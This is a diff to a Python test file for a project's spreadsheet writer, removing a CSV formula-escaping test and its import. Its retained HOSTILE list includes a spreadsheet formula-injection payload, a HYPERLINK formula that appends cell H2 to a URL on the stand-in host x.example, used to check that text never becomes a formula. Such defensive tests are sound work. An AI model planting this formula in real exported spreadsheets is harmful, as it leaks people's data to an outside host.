@@ -1,13 +1,12 @@
 """The one spreadsheet writer: text never becomes a formula, numbers stay numbers."""
 
-import csv
 import io
 import re
 from pathlib import Path
 
 import openpyxl
 
-from dayao_sscard.spreadsheets import CsvWriter, XlsxWorkbook
+from dayao_sscard.spreadsheets import XlsxWorkbook
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&H2,"点击查看")',
@@ -64,17 +63,6 @@ def test_header_is_bold_and_plain_text_is_untouched():
     sheet = openpyxl.load_workbook(stream).active
     assert sheet["A1"].font.b and sheet["A1"].value == "姓名"
     assert sheet["A2"].value == "李四" and not sheet["A2"].quotePrefix
-
-
-def test_csv_cells_that_would_start_a_formula_get_an_apostrophe():
-    text = io.StringIO()
-    writer = CsvWriter(text)
-    writer.writerow(["姓名", "金额"])
-    writer.writerows([[value, -3] for value in HOSTILE] + [["王五", None]])
-    rows = list(csv.reader(io.StringIO(text.getvalue())))
-    assert [row[0] for row in rows[1:-1]] == ["'" + value for value in HOSTILE[:-1]] + ["#N/A"]
-    assert {row[1] for row in rows[1:-1]} == {"-3"}
-    assert rows[-1] == ["王五", ""]
 
 
 def test_every_download_goes_through_this_writer():
